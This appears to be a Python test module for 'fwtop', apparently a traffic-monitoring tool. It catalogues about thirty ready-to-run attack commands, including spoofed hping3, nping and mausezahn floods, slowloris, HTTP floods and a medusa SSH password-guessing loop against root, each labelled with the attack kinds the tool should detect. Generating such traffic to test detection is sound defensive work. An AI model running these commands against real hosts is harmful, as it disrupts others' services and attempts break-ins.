"""Attacks by programs that fwtop's developers didn't write, and what each may rightly be called."""

from __future__ import annotations

import shutil
from collections.abc import Sequence

from msgspec import Struct

BOTS = tuple(f"198.18.77.{number}" for number in range(11, 31))


class Tool(Struct, frozen=True):
    """A program that attacks: its command line for `sh`, and the kinds of attack that are right names for it.

    In the command, {host} is the address of the watched host, {bots} are the attackers' own addresses and
    {bot} is the first of them, {folder} is where files are.
    """

    name: str
    command: str
    kinds: frozenset[str]
    needs: str = ""  # another program than the first word of the command

    @property
    def missing(self) -> bool:
        """Whether its program isn't installed."""
        return shutil.which(self.needs or self.command.split()[0]) is None

    def is_named(self, words: Sequence[str]) -> bool:
        """Whether it is installed and its name begins with one of some words, or none are given."""
        return not self.missing and (not words or self.name.startswith(tuple(words)))


def _tool(name: str, kinds: str, command: str, needs: str = "") -> Tool:
    return Tool(name, command, frozenset(kinds.split()), needs)


_HPING = "hping3 -q -i u200"
_HTTP = "http_flood syn_flood"
_SLOW = "http_flood slow_headers slow_body slow_read idle_connections"
_EACH = "for bot in {bots}; do %s & done; wait"
_VEGETA = (
    "(echo GET http://{host}/; echo GET http://{host}/page3.html) "
    "| vegeta attack -rate 80 -laddr $bot -duration 60s >/dev/null"
)
TOOLS = (
    _tool("hping3: SYN, forged", "syn_flood", f"{_HPING} -S -p 80 --rand-source {{host}}"),
    _tool("hping3: SYN, one source", "syn_flood", f"{_HPING} -S -p 443 -a {{bot}} {{host}}"),
    _tool(
        "hping3: SYN to port 22, odd window", "syn_flood", f"{_HPING} -S -p 22 -w 512 --rand-source {{host}}"
    ),
    _tool("hping3: ACK, forged", "ack_flood", f"{_HPING} -A -p 443 --rand-source {{host}}"),
    _tool("hping3: FIN PUSH URG", "tcp_anomaly ack_flood", f"{_HPING} -F -P -U -p 80 -a {{bot}} {{host}}"),
    _tool(
        "hping3: SYN from itself (land)", "syn_flood tcp_anomaly", f"{_HPING} -S -p 80 -a {{host}} {{host}}"
    ),
    _tool("hping3: ICMP echo", "icmp_flood", f"{_HPING} --icmp -d 40 -a {{bot}} {{host}}"),
    _tool(
        "hping3: UDP to port 53",
        "udp_flood dns_query_flood",
        f"{_HPING} --udp -p 53 -d 60 -a {{bot}} {{host}}",
    ),
    _tool(
        "hping3: UDP, forged, closed port",
        "udp_flood",
        f"{_HPING} --udp -p 27015 -d 200 --rand-source {{host}}",
    ),
    _tool(
        "hping3: UDP fragments",
        "fragment_flood udp_flood",
        f"{_HPING} --udp -p 9 -d 3000 -f -a {{bot}} {{host}}",
    ),
    _tool(
        "nping: SYN",
        "syn_flood",
        "nping -q --tcp --flags syn -p 80 --source-ip {bot} --delay 1ms -c 900000 --no-capture {host}",
    ),
    _tool(
        "nping: UDP to port 123",
        "udp_flood",
        "nping -q --udp -p 123 --data-length 300 --source-ip {bot} --delay 1ms -c 900000 --no-capture {host}",
    ),
    _tool(
        "nmap: SYN scan",
        "port_scan syn_flood",
        "while nmap -n -Pn -sS -p1-60000 --min-rate 3000 -S {bot} -e lab0 {host}; do :; done",
        "nmap",
    ),
    _tool("slowhttptest: headers", _SLOW, "slowhttptest -c 600 -H -i 5 -r 150 -l 60 -u http://{host}/"),
    _tool("slowhttptest: read", _SLOW, "slowhttptest -c 600 -X -r 150 -l 60 -k 3 -u http://{host}/large"),
    _tool("vegeta, 20 sources", _HTTP, _EACH % _VEGETA, "vegeta"),
    _tool("wrk", _HTTP, "wrk -t 1 -c 60 -d 60 http://{host}/"),
    _tool("ab", _HTTP, "ab -q -t 60 -n 10000000 -c 60 http://{host}/"),
    _tool("ab, TLS", f"{_HTTP} tls_flood", "ab -q -t 60 -n 10000000 -c 40 https://{host}/"),
    _tool("h2load", f"{_HTTP} tls_flood", "h2load -c 20 -m 10 -D 60 https://{host}/"),
    _tool("siege", _HTTP, "siege -q -b -c 40 -t 60S http://{host}/"),
    _tool("bombardier", _HTTP, "bombardier -q -c 50 -d 60s http://{host}/"),
    _tool("hey", _HTTP, "hey -z 60s -c 40 -q 100 http://{host}/"),
    _tool("autocannon", _HTTP, "autocannon -c 40 -d 60 http://{host}/"),
    _tool("slowloris", _SLOW, "slowloris -s 300 --sleeptime 5 {host}"),
    _tool(
        "mausezahn: UDP, forged",
        "udp_flood",
        "mausezahn lab0 -q -c 0 -d 300u -A rand -B {host} -t udp dp=5060,sp=40000 -p 120",
    ),
    _tool(
        "mausezahn: SYN ACK",
        "syn_ack_flood tcp_anomaly ack_flood syn_ack_reflection",
        "mausezahn lab0 -q -c 0 -d 300u -A rand -B {host} -t tcp 'dp=80,sp=443,flags=syn|ack'",
    ),
    _tool("t50: RST", "rst_flood tcp_anomaly", "t50 {host} --threshold 900000 --protocol TCP -R --dport 80"),
    _tool(
        "medusa: SSH",
        "password_guessing",
        "while medusa -h {host} -u root -P {folder}/names -M ssh -t 16; do :; done",
        "medusa",
    ),
    _tool(
        "dnsperf",
        "dns_query_flood dns_random_subdomain udp_flood",
        "dnsperf -s {host} -d {folder}/names -l 60 -q 400",
    ),
    _tool("fping", "icmp_flood", "fping -q -l -i 1 -p 1 -S {bot} " + "{host} " * 4),
)
